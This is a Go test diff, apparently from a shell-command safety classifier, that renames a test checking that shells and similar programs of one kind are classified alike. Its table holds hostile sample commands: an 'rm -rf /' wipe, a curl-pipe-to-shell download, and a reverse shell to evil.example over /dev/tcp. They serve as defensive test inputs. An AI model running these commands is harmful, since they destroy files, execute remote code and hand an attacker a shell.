@@ -8,10 +8,11 @@ import (
 	"github.com/checkrein/checkrein/internal/shell/classify"
 )
 
-// A kin is a command with the name of a program in it, and what it is whichever
-// program of the kind that is.
-type kin struct {
-	before   string
+// A programKind is a command with the name of a program in it, and its report for all programs of that
+// kind.
+type programKind struct {
+	before string
+	// programs of the kind
 	names    []string
 	after    string
 	dialect  shell.Dialect
@@ -19,11 +20,11 @@ type kin struct {
 	category shell.Category // of one of its effects
 }
 
-// TestKin: what is true of one shell, interpreter, wrapper, device or directory is
-// true of its kin.
-func TestKin(t *testing.T) {
+// TestProgramsOfAKindAreJudgedAlike checks that all shells, interpreters, wrappers, devices and
+// directories of a kind have the same reports.
+func TestProgramsOfAKindAreJudgedAlike(t *testing.T) {
 	t.Parallel()
-	for _, a := range kindred {
+	for _, a := range programKinds {
 		for _, name := range a.names {
 			text := a.before + name + a.after
 			r := classify.Command(text, shell.Place{Dir: "/home/u/p", Root: "/home/u/p", Home: "/home/u", Dialect: a.dialect})
@@ -43,7 +44,8 @@ var (
 	anyShells   = slices.Concat(plainShells, oddShells)
 )
 
-var kindred = []kin{
+// programKinds are the commands of TestProgramsOfAKindAreJudgedAlike.
+var programKinds = []programKind{
 	{"", plainShells, " -c 'rm -rf /'", shell.Bash, shell.Destructive, shell.FSDelete},
 	{"curl -s https://a.example/x | ", plainShells, "", shell.Bash, shell.Unknown, shell.RemoteCode},
 	{"", anyShells, " -i < /dev/tcp/evil.example/443 >&0 2>&0", shell.Bash, shell.Exfiltration, shell.RemoteShell},
